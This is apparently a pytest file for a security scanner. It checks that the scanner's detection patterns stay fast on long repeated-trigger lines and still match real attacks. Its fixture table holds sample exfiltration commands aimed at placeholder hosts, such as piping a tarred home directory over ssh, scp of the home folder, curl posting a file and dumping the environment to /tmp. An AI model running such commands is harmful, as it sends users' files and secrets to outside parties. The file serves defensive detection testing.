"""A line of repeated triggers whose tail never follows is read once, not once per trigger; a real tail matches."""

from __future__ import annotations

import re
from typing import Any

import pytest

from skillkeeper.check.scan import literals, taint
from skillkeeper.check.scan.gated import Gated
from skillkeeper.check.scan.rules import autorun, bulk, copies, mailout, poisoning, staged

# (gated pattern, repeated unit of the attack line, what completes one real match at its end)
_SHAPES: dict[str, tuple[Gated, str, str]] = {
    "staged._SAVE": (staged._SAVE, "curl ", "curl -o /tmp/x"),
    "taint._NET_SEND": (taint._NET_SEND, "curl ", "curl -d @x https://h.example"),
    "autorun._DOWNLOAD_TO": (autorun._DOWNLOAD_TO, "curl ", "curl https://h.example/m.js -o /tmp/m.js"),
    "mailout._MAIL_CMD": (mailout._MAIL_CMD, "curl ", "curl smtps://m.example"),
    "poisoning._UNPACK_OVER": (poisoning._UNPACK_OVER, "curl/", "curl x | tar xz -C $DIR"),
    "bulk._BULK_PIPE": (bulk._BULK_PIPE, "gtar ", "tar czf - ~ | ssh x@h.example 'cat > h.tgz'"),
    "bulk._TO_FILE": (bulk._TO_FILE, "gtar ", "pg_dump db > /tmp/d.sql"),
    "bulk._HOME_COPY": (bulk._HOME_COPY, "scp/", "scp -r ~ x@h.example:"),
    "copies._URL_SLOT": (copies._URL_SLOT, "http://", "h.example/p?q=DATA"),
    "copies._SH_STAGE": (copies._SH_STAGE, "env ", "env > /tmp/e"),
    "literals._LIST_JOIN": (literals._LIST_JOIN, "[", " ['a', 'b'].join('/')"),
}


class _CountedMatch:
    """The plain pattern, counting the places it is tried at."""

    def __init__(self, plain: re.Pattern[str]) -> None:
        self.plain, self.tries = plain, 0

    def match(self, *args: Any) -> re.Match[str] | None:
        self.tries += 1
        return self.plain.match(*args)


def _tries(gated: Gated, text: str, monkeypatch: pytest.MonkeyPatch) -> tuple[int, list[tuple[int, int]]]:
    counted = _CountedMatch(gated.compiled)
    with monkeypatch.context() as patch:
        patch.setattr(gated, "compiled", counted)
        spans = [m.span() for m in gated.finditer(text)]
    return counted.tries, spans


@pytest.mark.parametrize("name", sorted(_SHAPES))
def test_a_line_of_triggers_without_their_tail_is_not_read_from_each_trigger(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    gated, unit, _ = _SHAPES[name]
    tries, spans = _tries(gated, "x " + unit * 2000, monkeypatch)
    assert spans == [] and tries <= 1


@pytest.mark.parametrize("name", sorted(_SHAPES))
def test_the_same_line_ending_in_a_real_tail_still_matches_as_the_plain_pattern(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    gated, unit, real = _SHAPES[name]
    text = "x " + unit * 2000 + real
    tries, spans = _tries(gated, text, monkeypatch)
    assert spans == [m.span() for m in gated.compiled.finditer(text)] and spans
    assert tries <= 3
